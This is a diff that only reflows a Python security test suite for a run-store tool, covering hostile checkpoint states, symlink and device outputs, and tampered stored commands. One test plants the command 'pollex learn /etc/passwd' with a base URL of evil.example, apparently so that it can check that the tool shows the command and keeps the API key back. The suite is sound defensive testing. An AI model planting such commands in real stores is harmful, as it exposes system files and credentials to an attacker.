@@ -39,9 +39,16 @@ async def page(folder: Path, path: str) -> str:
 @case("42.1.1", "a store of a stranger runs nothing, and a damaged state is one error in words")
 def hostile_states(folder: Path) -> str:
     """Trace and show runs whose states name a command to run, or are damaged, in every place of a checkpoint."""
-    named, canary = learned(folder).run, folder / "canary"
+    named = learned(folder).run
+    canary = folder / "canary"
     kinds = calls_of(canary) | damages()
-    tried = ("a call with one value", "a call within a set", "a pickle", "cut", "nested without end")
+    tried = (
+        "a call with one value",
+        "a call within a set",
+        "a pickle",
+        "cut",
+        "nested without end",
+    )
     for number, (kind, place) in enumerate((kind, place) for kind in tried for place in PLACES):
         store = shutil.copytree(folder / "s", folder / f"s{number}")
         PLACES[place](store, *kinds[kind])
@@ -53,7 +60,9 @@ def hostile_states(folder: Path) -> str:
     return f"{len(tried)} kinds in {len(PLACES)} places"
 
 
-@case("42.1.3", "devices, pipes and links that the user names stay what they are, and nothing hangs")
+@case(
+    "42.1.3", "devices, pipes and links that the user names stay what they are, and nothing hangs"
+)
 def outputs(folder: Path) -> str:
     """Write to /dev/null, a pipe without a reader, and links, by commands and by what all of them write with."""
     learned(folder)
@@ -68,9 +77,14 @@ def outputs(folder: Path) -> str:
         refused = run(folder, "learn", "log.jsonl", "--out", out, "--store", "s", code=2).err
         assert "it is no file" in refused, refused
     write_text(Path(os.devnull), "words")
-    kinds = [stat.S_ISFIFO((folder / "pipe.jsonl").stat().st_mode), stat.S_ISCHR(Path(os.devnull).stat().st_mode)]
+    kinds = [
+        stat.S_ISFIFO((folder / "pipe.jsonl").stat().st_mode),
+        stat.S_ISCHR(Path(os.devnull).stat().st_mode),
+    ]
     assert all([*kinds, (folder / "link.jsonl").is_symlink(), (folder / "null.html").is_symlink()])
-    assert len((folder / "target.jsonl").read_text().splitlines()) > 50, "the link's target was not written"
+    assert len((folder / "target.jsonl").read_text().splitlines()) > 50, (
+        "the link's target was not written"
+    )
     return "a pipe, a device and two links"
 
 
@@ -91,7 +105,12 @@ children.close()
 print(child.state)
 """
     done = subprocess.run(  # noqa: S603
-        [sys.executable, "-P", "-c", code], cwd=folder, capture_output=True, text=True, check=True, timeout=60
+        [sys.executable, "-P", "-c", code],
+        cwd=folder,
+        capture_output=True,
+        text=True,
+        check=True,
+        timeout=60,
     )
     assert done.stdout.strip() == "done", done.stderr
     assert not (folder / "canary").exists(), (folder / "canary").read_text()
@@ -101,10 +120,13 @@ print(child.state)
 @case("42.1.7", "a kept command is shown before it reads or asks, and the key stays with its owner")
 def kept_commands(folder: Path) -> str:
     """Change the command of a run to another file and another endpoint, and show and post its pool."""
-    named, evil = learned(folder).run, "http://evil.example/v1"
+    named = learned(folder).run
+    evil = "http://evil.example/v1"
     command = f"pollex learn /etc/passwd --model m --base-url {evil}"
     with closing(sqlite3.connect(folder / "s" / "store.sqlite")) as database:
-        database.execute("UPDATE runs SET arguments = json_set(arguments, '$.command', ?)", (command,))
+        database.execute(
+            "UPDATE runs SET arguments = json_set(arguments, '$.command', ?)", (command,)
+        )
         database.commit()
 
     async def posted() -> tuple[int, str, str]:
@@ -124,7 +146,10 @@ def kept_commands(folder: Path) -> str:
     return f"{status}, without the key"
 
 
-@case("42.1.8", "a work file that is a link is not written through, and no link of a store is followed")
+@case(
+    "42.1.8",
+    "a work file that is a link is not written through, and no link of a store is followed",
+)
 def links(folder: Path) -> str:
     """Put links in place of todo.jsonl, a report, and files of a store."""
     learned(folder)
@@ -161,8 +186,12 @@ def labels(folder: Path) -> str:
         with Store.open(folder / "s") as store:
             async with client_of(made_app(store)) as client:
                 row = {"run": named, "id": first, "who": "Ann", "value": "up"}
-                answers = await asyncio.gather(*(client.post("/api/thumbs", json=row) for _ in range(20)))
-            return {answer.status_code for answer in answers}, int(store.value("SELECT count(*) FROM labels"))
+                answers = await asyncio.gather(
+                    *(client.post("/api/thumbs", json=row) for _ in range(20))
+                )
+            return {answer.status_code for answer in answers}, int(
+                store.value("SELECT count(*) FROM labels")
+            )
 
     statuses, rows = asyncio.run(posted())
     assert (statuses, rows) == ({200}, 1)
